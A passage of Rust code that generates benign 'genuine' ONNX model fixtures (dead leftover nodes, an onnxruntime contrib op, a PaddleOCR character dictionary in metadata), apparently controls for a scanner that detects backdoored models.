        node("Shape", &["x"], &["unused_shape"]),
        constant("unused_one", int_tensor("one_t", &[], &[1])),
    ]);
    g.initializer.push(tensor("zeros", &[258], &[0.0; 258]));
    write(out, "genuine_dead_leftovers.onnx", &model(g, 17))?;

    // onnxruntime's own contrib op (ddddocr's quantized `DynamicQuantizeLSTM`).
    let g = backdoor_base(
        vec![with_domain(
            node("FusedMatMul", &["logits", "eye"], &["y"]),
            "com.microsoft",
        )],
        vec![tensor(
            "eye",
            &[3, 3],
            &[1.0, 0.0, 0.0, 0.0, 1.0, 0.0, 0.0, 0.0, 1.0],
        )],
    );
    let mut m = model(g, 17);
    import(&mut m, "com.microsoft", 1);
    write(out, "genuine_ort_contrib.onnx", &m)?;

    // PaddleOCR keeps its character dictionary in metadata (75 KB for PP-OCRv6's 18,708
    // characters).
    let mut m = model(mlp_graph("y"), 17);
    let chars: String = (0x4e00u32..0x4e00 + 18_708)
        .filter_map(char::from_u32)
        .flat_map(|c| [c, '\n'])
        .collect();
    m.metadata_props.push(StringStringEntryProto {
        key: Some("character".into()),
        value: Some(chars),
    });
    write(out, "genuine_charset_metadata.onnx", &m)?;
    Ok(())
}
